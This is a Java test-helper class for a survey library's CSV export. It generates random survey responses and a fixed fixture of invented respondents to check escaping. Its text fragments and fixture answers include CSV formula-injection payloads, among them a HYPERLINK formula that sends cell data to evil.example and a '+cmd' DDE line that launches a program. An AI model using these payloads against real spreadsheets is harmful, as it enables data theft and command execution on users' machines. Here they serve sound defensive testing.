package org.ctnat.io;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import org.ctnat.core.instrument.Instrument;
import org.ctnat.core.questionbank.ChoiceOption;
import org.ctnat.core.questionbank.FreeText;
import org.ctnat.core.questionbank.Grid;
import org.ctnat.core.questionbank.GridStatement;
import org.ctnat.core.questionbank.ItemId;
import org.ctnat.core.questionbank.MultipleChoice;
import org.ctnat.core.questionbank.Question;
import org.ctnat.core.questionbank.Ranking;
import org.ctnat.core.questionbank.ScalePoint;
import org.ctnat.core.questionbank.SingleChoice;
import org.ctnat.core.response.Answer;
import org.ctnat.core.response.ChoiceAnswer;
import org.ctnat.core.response.PointAnswer;
import org.ctnat.core.response.RankingAnswer;
import org.ctnat.core.response.Respondent;
import org.ctnat.core.response.ResponseValidation;
import org.ctnat.core.response.SelectionAnswer;
import org.ctnat.core.response.SurveyResponse;
import org.ctnat.core.response.TextAnswer;

/**
 * Random valid responses to the standard instrument, from a seed, built with the core API only
 * (never with the code under test), and texts that stress CSV: formula payloads, quotes, commas,
 * line breaks, tabs, non-Latin scripts.
 */
public final class CsvSamples {

  static final Instrument STANDARD = Instruments.ctnat2016();

  /** Pieces of free text; several are joined into one answer. */
  static final List<String> FRAGMENTS = List.of(
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
      "=1+1", "'", "''", "'=quoted", "'plain", "\tindented", "\rreturn", "line one\nline two", "crlf\r\nend",
      "a, b, c", "say \"hi\"", "\"", ",", "Ünïcödé", "Азербайджан", "საქართველო", "日本語", "emoji 😀",
      "  spaced  ",
      "NA", "0", "1", "null", "shelters lack funding", "x");

  private CsvSamples() {}

  /** A non-blank text of one to three fragments. */
  static String text(Random random) {
    StringBuilder out = new StringBuilder();
    int pieces = 1 + random.nextInt(3);
    for (int i = 0; i < pieces; i++) {
      out.append(FRAGMENTS.get(random.nextInt(FRAGMENTS.size())));
    }
    String text = out.toString();
    return text.isBlank() ? text + "text" : text;
  }

  /**
   * Valid responses with distinct ids.
   *
   * @param seed the seed
   * @param count how many
   * @param instrumentOrder whether the codes of a selection are in the instrument's order (the
   *     order the wide layout reads them back in) or shuffled
   */
  static List<SurveyResponse> responses(long seed, int count, boolean instrumentOrder) {
    Random random = new Random(seed);
    List<SurveyResponse> responses = new ArrayList<>();
    for (int r = 0; r < count; r++) {
      responses.add(response(random, "AZEsur" + (r + 1), instrumentOrder));
    }
    return responses;
  }

  static SurveyResponse response(Random random, String id, boolean instrumentOrder) {
    return response(random, id, instrumentOrder, false, CsvSamples::text);
  }

  /**
   * A valid response to the standard survey with a random share of the items answered; shared by
   * the CSV tests and the submissions-import tests.
   *
   * @param random the source of randomness
   * @param id the respondent id
   * @param instrumentOrder whether the codes of a selection are in the instrument's order
   * @param chooseOne whether a multiple choice chooses at least one option even where none is required
   * @param texts makes the free texts and "please specify" texts
   * @return the response, checked valid
   */
  public static SurveyResponse response(Random random, String id, boolean instrumentOrder, boolean chooseOne,
      java.util.function.Function<Random, String> texts) {
    double answerRate = random.nextDouble();
    Map<ItemId, Answer> answers = new LinkedHashMap<>();
    for (Question question : STANDARD.survey().questions()) {
      if (question instanceof Grid grid) {
        List<ScalePoint> points = STANDARD.scale(grid.scale()).orElseThrow().points();
        for (GridStatement statement : grid.statements()) {
          if (random.nextDouble() < answerRate) {
            answers.put(statement.id(), PointAnswer.of(points.get(random.nextInt(points.size())).code()));
          }
        }
        continue;
      }
      if (random.nextDouble() >= answerRate) {
        continue;
      }
      if (question instanceof SingleChoice q) {
        List<String> codes = q.optionsFrom().map(parent -> answers.get(parent) instanceof SelectionAnswer s
            ? s.codes() : List.<String>of()).orElse(q.options().stream().map(ChoiceOption::code).toList());
        if (codes.isEmpty()) {
          continue;
        }
        String code = codes.get(random.nextInt(codes.size()));
        boolean specify = q.option(code).orElseThrow().specify();
        answers.put(q.id(), new ChoiceAnswer(code, specify && random.nextBoolean()
            ? Optional.of(texts.apply(random)) : Optional.empty()));
      } else if (question instanceof MultipleChoice q) {
        List<ChoiceOption> options = new ArrayList<>(q.options());
        Collections.shuffle(options, random);
        int least = chooseOne ? Math.max(1, q.minSelections()) : q.minSelections();
        int k = least + random.nextInt(q.effectiveMaxSelections() - least + 1);
        List<ChoiceOption> chosen = new ArrayList<>(options.subList(0, k));
        if (instrumentOrder) {
          chosen.sort((a, b) -> q.options().indexOf(a) - q.options().indexOf(b));
        }
        boolean specify = chosen.stream().anyMatch(ChoiceOption::specify);
        answers.put(q.id(), new SelectionAnswer(chosen.stream().map(ChoiceOption::code).toList(),
            specify && random.nextBoolean() ? Optional.of(texts.apply(random)) : Optional.empty()));
      } else if (question instanceof Ranking q) {
        List<ChoiceOption> options = new ArrayList<>(q.options());
        Collections.shuffle(options, random);
        int k = q.minRanked() + random.nextInt(q.maxRanked() - q.minRanked() + 1);
        List<ChoiceOption> ranked = options.subList(0, k);
        boolean specify = ranked.stream().anyMatch(ChoiceOption::specify);
        answers.put(q.id(), RankingAnswer.inOrder(ranked.stream().map(ChoiceOption::code).toList(),
            specify && random.nextBoolean() ? Optional.of(texts.apply(random)) : Optional.empty()));
      } else if (question instanceof FreeText q) {
        answers.put(q.id(), TextAnswer.of(texts.apply(random)));
      }
    }
    SurveyResponse response = SurveyResponse.to(STANDARD, Respondent.of(id)).answers(answers).build();
    if (!ResponseValidation.validate(STANDARD, response).isValid()) {
      throw new AssertionError("the sample generator made an invalid response: "
          + ResponseValidation.validate(STANDARD, response));
    }
    return response;
  }

  /**
   * Four respondents of the 2016 Azerbaijan and Georgia surveys, made up, with every kind of
   * answer, specified texts, formula payloads, a text over two lines, a respondent who answered
   * nothing, and personal data (which no file may hold).
   */
  static List<SurveyResponse> fixture() {
    SurveyResponse first = SurveyResponse.to(STANDARD, Respondent.builder().id(org.ctnat.core.response.RespondentId
            .of("AZEsur1")).personalData(org.ctnat.core.response.PersonalData.of("Jane Doe", "jane@example.org"))
            .build())
        .putAnswer(ItemId.of("1.1"), ChoiceAnswer.of("azerbaijan"))
        .putAnswer(ItemId.of("1.2"), ChoiceAnswer.of("other_specify", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"))
        .putAnswer(ItemId.of("1.6"), ChoiceAnswer.of("female"))
        .putAnswer(ItemId.of("2.1"), SelectionAnswer.of("country_of_origin", "country_of_destination"))
        .putAnswer(ItemId.of("2.2"), SelectionAnswer.withOther("-2+3 begging, \"street\" work",
            "exploitation_in_prostitution", "forced_labour_or_services", "other_specify"))
        .putAnswer(ItemId.of("2.2.1"), ChoiceAnswer.of("forced_labour_or_services"))
        .putAnswer(ItemId.of("2.3"), SelectionAnswer.of("agriculture"))
        .putAnswer(ItemId.of("2.4"), RankingAnswer.inOrder("female_children", "adult_females", "male_children",
            "adult_males"))
        .putAnswer(ItemId.of("2.5"), ChoiceAnswer.of("growing"))
        .putAnswer(ItemId.of("2.6"), TextAnswer.of("Poverty, and migration to Russia;\nfew jobs for women"))
        .putAnswer(ItemId.of("3.1.4"), PointAnswer.of("adequate"))
        .putAnswer(ItemId.of("3.1.5"), PointAnswer.of("inadequate"))
        .putAnswer(ItemId.of("8.1"), RankingAnswer.inOrder(List.of("J", "A", "Q"), Optional.of("@SUM(A1:A9)")))
        .putAnswer(ItemId.of("8.2"), TextAnswer.of("'quoted' advice"))
        .putAnswer(ItemId.of("8.3"), TextAnswer.of("+cmd|' /C calc'!A0"))
        .build();
    SurveyResponse second = SurveyResponse.to(STANDARD, Respondent.of("AZEsur2"))
        .putAnswer(ItemId.of("1.1"), ChoiceAnswer.of("azerbaijan"))
        .putAnswer(ItemId.of("1.6"), ChoiceAnswer.of("male"))
        .putAnswer(ItemId.of("2.2"), SelectionAnswer.of("slavery_or_servitude", "removal_of_organs", "forced_marriage"))
        .putAnswer(ItemId.of("2.2.1"), ChoiceAnswer.of("forced_marriage"))
        .putAnswer(ItemId.of("3.1.4"), PointAnswer.of("neither_adequate_nor_inadequate"))
        .putAnswer(ItemId.of("7.3.2"), PointAnswer.of("easy"))
        .putAnswer(ItemId.of("8.1"), RankingAnswer.inOrder("B", "C", "D"))
        .build();
    SurveyResponse third = SurveyResponse.to(STANDARD, Respondent.of("AZEsur3")).build();
    SurveyResponse fourth = SurveyResponse.to(STANDARD, Respondent.of("GEOsur1"))
        .putAnswer(ItemId.of("1.1"), ChoiceAnswer.of("georgia"))
        .putAnswer(ItemId.of("2.6"), TextAnswer.of("\tindented, in Georgian: "
            + "\u10E1\u10D0\u10E5\u10D0\u10E0\u10D7\u10D5\u10D4\u10DA\u10DD"))
        .putAnswer(ItemId.of("4.1.9"), PointAnswer.of("somewhat_adequate"))
        .build();
    return List.of(first, second, third, fourth);
  }

  /** The fixture as it reads back: without personal data. */
  static List<SurveyResponse> fixtureAsRead() {
    return fixture().stream().map(r -> (SurveyResponse) SurveyResponse.builder().from(r)
        .respondent(r.respondent().withoutPersonalData()).build()).toList();
  }

  /** The bytes of a string in UTF-8. */
  static byte[] utf8(String text) {
    return text.getBytes(java.nio.charset.StandardCharsets.UTF_8);
  }

  /** Reads a test resource under {@code org/ctnat/io/csv/}. */
  static String resource(String name) {
    try (var in = CsvSamples.class.getResourceAsStream("/org/ctnat/io/csv/" + name)) {
      if (in == null) {
        throw new AssertionError("missing test resource csv/" + name);
      }
      return new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }
}
